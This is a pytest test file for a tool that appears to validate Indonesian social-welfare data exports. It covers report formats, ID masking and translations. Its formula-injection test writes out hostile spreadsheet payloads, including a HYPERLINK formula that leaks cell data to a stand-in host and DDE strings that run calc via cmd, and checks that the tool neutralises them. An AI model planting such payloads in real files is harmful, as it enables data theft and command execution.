"""CSV and JUnit golden files, the JUnit semantics, the XLSX worklist read back, formula
injection, several --format/--output in one run, and the translation catalogue.

Regenerate the golden files after an intended change with
`SIKSVAL_UPDATE_GOLDEN=1 pytest tests/report/test_report_formats.py` and review the diff.
"""

from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

import siksval
from siksval.report import render
from siksval.report.i18n import FAMILY_NAMES, LANGS, MESSAGES
from tests.conftest import run_cli
from tests.report.conftest import AS_OF, EXAMPLE, diff_like_report

GOLDEN = Path(__file__).resolve().parents[1] / "golden"
UPDATE = os.environ.get("SIKSVAL_UPDATE_GOLDEN") == "1"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE:
        path.write_text(text, encoding="utf-8", newline="")
    if not path.exists():
        pytest.fail(f"golden file {path} missing; run with SIKSVAL_UPDATE_GOLDEN=1")
    assert path.read_bytes().decode("utf-8") == text, (
        f"{name} differs; if the change is intended, regenerate with SIKSVAL_UPDATE_GOLDEN=1")


def normalise_junit(text: str) -> str:
    text = re.sub(r'(name="source" value=")[^"]*', r"\1<source>", text)
    text = re.sub(r'(name="siksval_version" value=")[^"]*', r"\1<version>", text)
    return re.sub(r'(name="reference" value=")[^"]*', r"\1<edition>", text)


# -- CSV ---------------------------------------------------------------------------------------
def test_csv_golden(example_report) -> None:
    text = render(example_report, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(example_report.findings_raw)
    check_golden("dtks_contoh.csv", text)


def test_csv_golden_english_unmasked(example_report_en) -> None:
    check_golden("dtks_contoh_unmasked_en.csv", render(example_report_en, "csv", mask=False))


# -- JUnit -------------------------------------------------------------------------------------
def test_junit_golden(example_report) -> None:
    text = render(example_report, "junit")
    ET.fromstring(text.encode())  # well-formed
    check_golden("dtks_contoh_junit.xml", normalise_junit(text))


def _cases(text: str) -> dict[str, ET.Element]:
    root = ET.fromstring(text.encode())
    return {c.get("name", "").split()[0]: c for c in root.iter("testcase")}


def test_junit_one_case_per_rule_that_ran() -> None:
    report = siksval.check(EXAMPLE, as_of=AS_OF, select=["NIK", "KK001"])
    cases = _cases(render(report, "junit"))
    assert set(cases) == {f"NIK00{i}" for i in range(1, 10)} | {"KK001"}
    assert cases["NIK001"].find("failure") is not None  # error at --fail-on error
    assert cases["NIK007"].find("failure") is None  # a warning passes at --fail-on error
    cases = _cases(render(report, "junit", fail_on="warning"))
    assert cases["NIK007"].find("failure") is not None
    cases = _cases(render(report, "junit", fail_on="never"))
    assert not [c for c in cases.values() if c.find("failure") is not None]


def test_junit_lists_rules_without_findings_and_skipped(example_report) -> None:
    cases = _cases(render(example_report, "junit"))
    assert "SCH001" in cases and len(list(cases["SCH001"])) == 0  # ran, passed
    assert not any(code.startswith("LKS") for code in cases)  # not for this dataset
    report = siksval.check(EXAMPLE, as_of=AS_OF, ignore=["ELG"])
    assert not any(code.startswith("ELG") for code in _cases(render(report, "junit")))


def test_junit_survives_control_characters(diff_report) -> None:
    diff_report.findings_raw.at[0, "params"] = {"nama": "SITI\x00\x07 AMINAH"}
    ET.fromstring(render(diff_report, "junit", mask=False).encode())


# -- XLSX --------------------------------------------------------------------------------------
def _sheet_xml(path: Path, index: int) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode()


def test_xlsx_worklist_read_back(example_report, tmp_path: Path) -> None:
    path = tmp_path / "kerja.xlsx"
    render(example_report, "xlsx", path)
    wb = CalamineWorkbook.from_path(str(path))
    names = wb.sheet_names
    assert names[:2] == ["Ringkasan", "Verifikasi"] and names[-1] == "Data ganda"
    families = {n.split()[0] for n in names[2:-1]}
    assert families == {"SCH", "NIK", "KK", "DEM", "WIL", "HH", "DUP", "ELG", "EXC"}

    summary = wb.get_sheet_by_name("Ringkasan").to_python()
    assert summary[1][0].startswith("RAHASIA")  # unmasked by default, so marked confidential
    flat = [str(c) for row in summary for c in row]
    assert any(c.startswith("GAGAL") for c in flat) and "NIK001" in flat

    rows = wb.get_sheet_by_name("Verifikasi").to_python()
    head, body = rows[0], [r for r in rows[1:] if any(r)]
    assert head[:7] == ["Prioritas", "Kecamatan", "Desa/kelurahan", "Alamat", "No. KK",
                        "Kepala keluarga", "Alasan verifikasi"]
    assert len(body) > 20
    keys = [(r[0], r[1], r[2]) for r in body]
    assert [k[0] for k in keys] == sorted(k[0] for k in keys), "by priority"
    for prio in {k[0] for k in keys}:
        places = [(k[1], k[2]) for k in keys if k[0] == prio]
        assert places == sorted(places), "then by kecamatan and desa"
    # KK as text, unmasked, with the head's name; the deceased-member household comes first.
    kks = [r[4] for r in body]
    assert all(isinstance(k, str) for k in kks) and "1605012712190001" in kks
    deceased = next(r for r in body if "ELG001" in r[7])
    assert deceased[0] == "1 - tinggi" and deceased[5] == "ANDIKA SETIAWAN"
    assert "SULASTRI" in deceased[6] and "meninggal" in deceased[6]

    xml = _sheet_xml(path, 2)
    assert "<autoFilter" in xml and 'state="frozen"' in xml and 'ySplit="1"' in xml
    nik = wb.get_sheet_by_name(next(n for n in names if n.startswith("NIK"))).to_python()
    nik_col = nik[0].index("NIK (baris ini)")
    assert all(isinstance(r[nik_col], str) for r in nik[1:] if any(r))
    assert "1605004910039999" in [r[nik_col] for r in nik[1:]]


def test_xlsx_masked_on_request(example_report, tmp_path: Path) -> None:
    path = tmp_path / "kerja.xlsx"
    render(example_report, "xlsx", path, mask=True)
    wb = CalamineWorkbook.from_path(str(path))
    cells = [str(c) for n in wb.sheet_names for r in wb.get_sheet_by_name(n).to_python() for c in r]
    text = "\n".join(cells)
    assert not re.search(r"(?<!\d)\d{16}(?!\d)", text), "no full NIK/KK when masked"
    assert "ANDIKA SETIAWAN" not in text and "1605**********01" in text
    assert not cells[1].startswith("RAHASIA")


def test_xlsx_diff_report_generic(tmp_path: Path) -> None:
    path = tmp_path / "diff.xlsx"
    render(diff_like_report(), "xlsx", path)
    wb = CalamineWorkbook.from_path(str(path))
    assert any(n.startswith("CHG") for n in wb.sheet_names)
    summary = [str(c) for r in wb.get_sheet_by_name("Ringkasan").to_python() for c in r]
    assert "Jumlah perubahan" in summary and "Per desa/kelurahan" in summary
    dup = wb.get_sheet_by_name("Data ganda").to_python()
    assert [r[3] for r in dup[1:3]] == [3.0, 9.0] and dup[1][4] == "3273014506900003"


# -- formula injection -------------------------------------------------------------------------
HOSTILE = {
    "NAMA": '=HYPERLINK("http://x.invalid/?"&A1,"klik")',
    "ALAMAT": "+cmd|' /C calc'!A0",
    "DUSUN": "@SUM(1+1)*cmd|' /C calc'!A0",
    "NAMA_IBU_KANDUNG": "-2+3",
    "TEMPAT_LAHIR": "\t=1+1",
}


def _hostile_csv(tmp_path: Path) -> Path:
    lines = EXAMPLE.read_text(encoding="utf-8").splitlines()
    header = [h.strip('"') for h in lines[0].split("|")]
    out = [lines[0]]
    for line in lines[1:]:
        cells = [c.strip('"') for c in line.split("|")]
        for col, value in HOSTILE.items():
            cells[header.index(col)] = value
        out.append("|".join(f'"{c}"' for c in cells))
    path = tmp_path / "jahat.csv"
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return path


def test_formula_injection_neutralised(tmp_path: Path) -> None:
    report = siksval.check(_hostile_csv(tmp_path), as_of=AS_OF)
    text = render(report, "csv", mask=False)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c.startswith(FORMULA_START)]

    path = tmp_path / "jahat.xlsx"
    render(report, "xlsx", path)
    wb = CalamineWorkbook.from_path(str(path))
    values = [c for n in wb.sheet_names for r in wb.get_sheet_by_name(n).to_python()
              for c in r if isinstance(c, str)]
    assert any("HYPERLINK" in c for c in values) and any("calc" in c for c in values)
    assert not [c for c in values if c.startswith(FORMULA_START)]
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), f"a formula in {name}"


# -- CLI ---------------------------------------------------------------------------------------
def test_cli_several_formats_each_with_output(tmp_path: Path) -> None:
    outs = {f: tmp_path / f"laporan.{e}" for f, e in
            (("json", "json"), ("html", "html"), ("xlsx", "xlsx"), ("csv", "csv"),
             ("junit", "xml"), ("text", "txt"))}
    args = [a for f, p in outs.items() for a in ("--format", f, "--output", str(p))]
    res = run_cli("check", str(EXAMPLE), "--as-of", AS_OF, *args)
    assert res.returncode == 1, res.stderr
    for fmt, path in outs.items():
        assert path.stat().st_size > 500, fmt
        assert oct(path.stat().st_mode & 0o044) != "0o0", f"{fmt} readable like other files"
    assert "GAGAL" in outs["text"].read_text(encoding="utf-8")
    assert not list(tmp_path.glob(".*.tmp")), "no temporary files left"


def test_cli_lang_env_and_unmask(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    res = run_cli("check", str(EXAMPLE), "--as-of", AS_OF, "-f", "csv", "-o", str(out),
                  "--unmask", env={"SIKSVAL_LANG": "en"})
    assert res.returncode == 1
    text = out.read_text(encoding="utf-8")
    assert "NIK must be 16 digits" in text and "1605011210260001" in text


# -- catalogue ---------------------------------------------------------------------------------
def test_every_message_has_every_language() -> None:
    for table in (MESSAGES, FAMILY_NAMES):
        for key, entry in table.items():
            for lang in LANGS:
                assert entry.get(lang, "").strip(), f"{key!r} lacks a {lang} translation"
            params = {lang: set(re.findall(r"{(\w+)", entry[lang])) for lang in LANGS}
            assert params["id"] == params["en"], f"{key!r}: placeholders differ {params}"


def test_check_help_in_both_languages() -> None:
    res = run_cli("check", "--help")
    assert res.returncode == 0 and "Periksa satu atau beberapa ekspor" in res.stdout
    assert "--fail-on" in res.stdout
    res = run_cli("check", "--help", "--lang", "en")
    assert "Check one or more exports" in res.stdout and "repeatable" in res.stdout


@pytest.mark.parametrize("fmt", ["text", "html", "csv", "junit", "json", "xlsx"])
def test_report_without_context_renders(fmt: str, tmp_path: Path) -> None:
    """A Report built elsewhere without context, rules_run or duplicates still renders."""
    report = diff_like_report()
    report.context, report.rules_run, report.duplicates = None, None, []
    path = tmp_path / f"r.{fmt}"
    render(report, fmt, path)
    assert path.stat().st_size > 100
    if fmt == "junit":
        assert "CHG001" in path.read_text(encoding="utf-8")
